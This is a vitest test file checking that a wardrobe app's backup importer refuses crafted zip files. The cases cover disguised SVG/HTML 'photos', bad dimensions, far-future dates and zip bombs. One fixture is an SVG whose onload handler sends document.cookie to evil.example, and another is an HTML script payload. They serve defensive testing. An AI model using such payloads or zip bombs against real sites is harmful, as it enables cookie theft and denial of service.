import "fake-indexeddb/auto";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { db } from "./db";
import { exportWardrobe } from "./exportWardrobe";
import { sha256Hex } from "./hash";
import { ImportFileError } from "./importErrors";
import { importWardrobe } from "./importWardrobe";
import { dump, emptyDb, freshDatabasePerTest, fullState, NOW } from "./backupTestkit";
import { PROFILE_ID, saveFaceShape } from "./profile";
import { testJpeg } from "./testing";
import { deflateBomb, zipOf } from "./zipTestkit";

/**
 * A backup file is input from outside: it may have been made by hand to attack the
 * app. What it stores as photos must be images (by their bytes), its sizes and
 * numbers must be sane, and it must not be able to exhaust memory.
 */

freshDatabasePerTest();

type Data = Record<string, unknown> & { images: Record<string, unknown>[]; items: Record<string, unknown>[] };

/** A real export of a device with something of every kind, unpacked. */
async function unpacked() {
  await fullState();
  const files = unzipSync(new Uint8Array(await (await exportWardrobe()).arrayBuffer()));
  const data = JSON.parse(strFromU8(files["data.json"]!)) as Data;
  await emptyDb();
  return { files, data };
}

const pack = (files: Record<string, Uint8Array>, data: Data) => new Blob([zipSync({ ...files, "data.json": strToU8(JSON.stringify(data)) })]);

async function refusal(file: Blob): Promise<ImportFileError> {
  const before = await dump();
  const e = await importWardrobe(file).then(
    () => null,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ImportFileError);
  expect(await dump()).toEqual(before); // nothing written
  return e as ImportFileError;
}

const SVG = strToU8(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/'+document.cookie)"><rect width="9" height="9"/></svg>`);
const HTML = strToU8(`<!doctype html><html><body><script>alert(document.domain)</script></body></html>`);

describe("photos in a backup are checked by their bytes", () => {
  it("an SVG or HTML 'photo' is refused, whatever type the file claims for it", async () => {
    const { files, data } = await unpacked();
    const img = data.images[0]!;
    const variants: [string, (d: Data, f: Record<string, Uint8Array>) => Promise<void>][] = [
      [
        "SVG original, declared SVG",
        async (d, f) => {
          f[img.original as string] = SVG;
          Object.assign(d.images[0]!, { mimeType: "image/svg+xml", sha256: await sha256Hex(SVG) });
        },
      ],
      [
        "SVG original, declared JPEG",
        async (d, f) => {
          f[img.original as string] = SVG;
          Object.assign(d.images[0]!, { sha256: await sha256Hex(SVG) });
        },
      ],
      [
        "HTML thumbnail, declared HTML",
        async (d, f) => {
          f[img.thumbnail as string] = HTML;
          Object.assign(d.images[0]!, { thumbnailType: "text/html" });
        },
      ],
      [
        "HTML thumbnail, declared WebP",
        async (_d, f) => {
          f[img.thumbnail as string] = HTML;
        },
      ],
      [
        "SVG thumbnail",
        async (d, f) => {
          f[img.thumbnail as string] = SVG;
          Object.assign(d.images[0]!, { thumbnailType: "image/svg+xml" });
        },
      ],
      [
        "a real JPEG thumbnail declared as HTML",
        async (d) => {
          Object.assign(d.images[0]!, { thumbnailType: "text/html" });
        },
      ],
      [
        "a real JPEG original declared as HTML",
        async (d) => {
          Object.assign(d.images[0]!, { mimeType: "text/html" });
        },
      ],
    ];
    for (const [what, change] of variants) {
      const d = structuredClone(data);
      const f = { ...files };
      await change(d, f);
      const e = await refusal(pack(f, d));
      expect(e.failure, what).toMatchObject({ code: "bad-photo", index: 1 });
    }
  });

  it("a photo's width and height must be whole numbers of pixels within the limits (no Infinity)", async () => {
    const { files, data } = await unpacked();
    for (const [width, height] of [
      [Infinity, 480],
      [640, -1],
      [0, 480],
      [1e9, 1e9],
      [640.5, 480],
      [20_000, 20_000],
    ] as const) {
      const d = structuredClone(data);
      Object.assign(d.images[0]!, { width, height });
      // JSON writes Infinity as null: write it the way a crafted file would (1e999 parses as Infinity).
      const json = JSON.stringify(d).replace(`"width":null`, `"width":1e999`);
      const e = await refusal(new Blob([zipSync({ ...files, "data.json": strToU8(json) })]));
      expect(e.failure, `${width} × ${height}`).toMatchObject({ code: "bad-photo", index: 1 });
    }
  });

  it("stores each photo with the type its bytes have", async () => {
    const { files, data } = await unpacked();
    expect(await importWardrobe(pack(files, data))).toBeTruthy();
    for (const img of await db.images.toArray()) {
      expect(img.original.type).toBe("image/jpeg");
      expect(img.thumbnail.type).toBe("image/jpeg");
    }
  });
});

describe("times in a backup are bounded", () => {
  it("a record dated in the far future (2^53, or a month ahead) is refused; a day ahead (another device's clock) is fine", async () => {
    const { files, data } = await unpacked();
    const MONTH = 30 * 24 * 3600 * 1000;
    for (const t of [2 ** 53, Date.now() + MONTH]) {
      for (const kind of ["items", "outfits", "wearLog", "predictions"] as const) {
        const d = structuredClone(data);
        (d[kind] as Record<string, unknown>[])[0]!.updatedAt = t;
        const e = await refusal(pack(files, d));
        expect(e.failure, `${kind} at ${t}`).toMatchObject({ code: "bad-record", kind });
      }
    }
    const d = structuredClone(data);
    d.items[0]!.updatedAt = Date.now() + 24 * 3600 * 1000;
    await expect(importWardrobe(pack(files, d))).resolves.toBeTruthy();
  });
});

const MB = 1 << 20;
const memory = () => {
  const m = process.memoryUsage();
  return m.rss;
};

/** A small valid backup (one item and its photo) plus `extra` entries, written by hand. */
async function backupWith(
  extra: (ids: { original: string; thumbnail: string }) => { name: string; stored: Uint8Array; method: 0 | 8; size: number }[],
  bomb: "original" | "none",
) {
  const { data, files } = await unpacked();
  const d = structuredClone(data);
  d.items = d.items.filter((i) => i.id === d.images[0]!.itemId);
  d.images = [d.images[0]!];
  for (const k of ["outfits", "wearLog", "predictions"]) d[k] = [];
  d.profile = null;
  const img = d.images[0]!;
  const names = { original: img.original as string, thumbnail: img.thumbnail as string };
  const entries = [
    { name: "data.json", stored: strToU8(JSON.stringify(d)), method: 0 as const, size: 0 },
    ...(bomb === "original" ? [] : [{ name: names.original, stored: files[names.original]!, method: 0 as const, size: 0 }]),
    { name: names.thumbnail, stored: files[names.thumbnail]!, method: 0 as const, size: 0 },
    ...extra(names),
  ].map((e) => ({ ...e, size: e.size || e.stored.length }));
  return new Blob([zipOf(entries)]);
}

/**
 * CPU time this test process spent (ms): inflating the bomb would cost seconds of it, and
 * unlike wall time it does not grow when other processes load the machine.
 */
function cpuMs(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

describe("a zip bomb", () => {
  it("in an entry data.json does not name is never decompressed: the import goes ahead, fast", async () => {
    const { deflated, inflatedSize } = deflateBomb(2 * MB);
    expect(inflatedSize).toBeGreaterThan(2000 * MB);
    const file = await backupWith(() => [{ name: "images/zzz/extra.bin", stored: deflated, method: 8, size: 1000 }], "none");
    const t0 = cpuMs();
    const summary = await importWardrobe(file);
    expect(cpuMs() - t0).toBeLessThan(1000);
    expect(summary.items.added).toBe(1);
  });

  for (const lie of [true, false]) {
    it(`of 20 MB named as a photo (${lie ? "its size hidden" : "its size declared"}) is refused in under a second of CPU with a clear message and no memory spike`, async () => {
      const { deflated, inflatedSize } = deflateBomb(20 * MB);
      const file = await backupWith((n) => [{ name: n.original, stored: deflated, method: 8, size: lie ? 4096 : inflatedSize }], "original");
      expect(file.size).toBeGreaterThan(20 * MB);
      const before = memory();
      let peak = before;
      const sampler = setInterval(() => (peak = Math.max(peak, memory())), 5);
      const t0 = cpuMs();
      const e = await refusal(file);
      const ms = cpuMs() - t0;
      clearInterval(sampler);
      peak = Math.max(peak, memory());
      console.log(
        `zip bomb, 20 MB → ${(inflatedSize / 1e9).toFixed(1)} GB (${lie ? "size hidden" : "size declared"}): refused in ${ms.toFixed(0)} ms of CPU, rss +${((peak - before) / MB).toFixed(1)} MB`,
      );
      expect(e.failure).toMatchObject({ code: "too-large" });
      expect(ms).toBeLessThan(1000);
      expect(peak - before).toBeLessThan(64 * MB);
    });
  }
});

describe("a selfie kept on this device", () => {
  it("is never exported, and importing a newer profile (even one an earlier version wrote with its selfie) leaves this device's own", async () => {
    await fullState();
    const own = testJpeg(77);
    await saveFaceShape(
      {
        faceShape: { primary: "round", secondary: null, scores: { round: 1 }, clarity: 0.7 },
        suitedNecklines: [],
        avoidNecklines: [],
        selfie: { blob: new Blob([own], { type: "image/jpeg" }), width: 64, height: 48, mimeType: "image/jpeg" },
      },
      NOW,
    );
    const files = unzipSync(new Uint8Array(await (await exportWardrobe()).arrayBuffer()));
    expect(Object.keys(files).filter((k) => !k.startsWith("images/"))).toEqual(["data.json"]);
    const data = JSON.parse(strFromU8(files["data.json"]!)) as Data & { profile: Record<string, unknown> };
    expect(data.profile).not.toHaveProperty("selfie");

    // A newer profile, with a selfie as earlier versions exported it.
    const theirs = testJpeg(78);
    data.profile = {
      ...data.profile,
      updatedAt: NOW + 5000,
      gender: "men",
      selfie: {
        file: "profile/selfie.jpg",
        type: "image/jpeg",
        size: theirs.length,
        sha256: await sha256Hex(theirs),
        width: 64,
        height: 48,
        mimeType: "image/jpeg",
        savedAt: NOW + 5000,
      },
    };
    expect((await importWardrobe(pack({ ...files, "profile/selfie.jpg": theirs }, data))).profile).toMatchObject({ updated: 1 });
    const after = (await db.profile.get(PROFILE_ID))!;
    expect(after).toMatchObject({ updatedAt: NOW + 5000, gender: "men" });
    expect(new Uint8Array(await after.selfie!.blob.arrayBuffer())).toEqual(own);
  });
});
